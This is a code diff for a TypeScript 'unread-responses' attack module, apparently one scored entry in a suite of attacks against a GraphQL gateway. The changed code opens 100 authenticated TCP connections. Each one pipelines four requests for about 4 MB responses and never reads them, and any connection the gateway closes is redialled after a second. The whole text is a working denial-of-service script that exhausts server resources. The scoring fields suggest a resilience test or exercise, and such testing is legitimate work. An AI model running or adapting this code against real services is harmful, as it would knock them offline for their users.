@@ -1,32 +1,42 @@
 import { type Socket, connect } from 'node:net';
 import type { Attack } from './attack.ts';
+import { pause } from './send-post.ts';
 
 const CONNECTIONS = 100;
 const RESPONSES = 4;
+/** Pages of 200 KB in a response: 4 MB, at a cost that the budget of a user allows for all requests. */
+const PAGES = 20;
+/** @unit milliseconds */
+const PAUSE_BEFORE_DIALING_MS = 1_000;
 
-/** As many books with as many aliases of a field as the default limits allow, which makes the largest response of the reference graph. */
-const FIELDS = Array.from({ length: 40 }, (_, index) => `a${index}: title b${index}: author`).join(' ');
-const QUERY = `{ posts(first: 100) { nodes { ${FIELDS.replaceAll(': author', ': content')} } } }`;
-
-/** Opens connections that ask for large responses and read none of them; a connection that the gateway closes is opened again. */
+/**
+ * 100 connections of a signed-in user that ask for 4 responses of 4 MB each and read none of them. One that the gateway closes is opened
+ * again after a second.
+ */
 export const unreadResponses: Attack = {
   name: 'unread-responses',
   point: 4,
-  async run({ url, userToken }, signal) {
+  minRate: (CONNECTIONS * RESPONSES) / 60,
+  async run({ url, userToken }, tally, signal) {
     const { hostname, port } = new URL(url);
-    const body = JSON.stringify({ query: QUERY });
+    const body = JSON.stringify({ query: `{ pages(first: ${PAGES}) { text } }` });
     const request =
       `POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nAuthorization: Bearer ${userToken}\r\n` +
       `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
     const open = new Set<Socket>();
     const dial = (): void => {
       if (signal.aborted) return;
-      const socket = connect(Number(port), hostname, () => socket.write(request.repeat(RESPONSES)));
+      const socket = connect(Number(port), hostname, () => {
+        tally.sent += RESPONSES;
+        socket.write(request.repeat(RESPONSES));
+      });
       open.add(socket.pause());
       socket.on('error', () => undefined);
       socket.on('close', () => {
         open.delete(socket);
-        setTimeout(dial, 100);
+        if (signal.aborted) return;
+        tally.broken += 1;
+        void pause(PAUSE_BEFORE_DIALING_MS, signal).then(dial);
       });
     };
     for (let count = 0; count < CONNECTIONS; count += 1) dial();
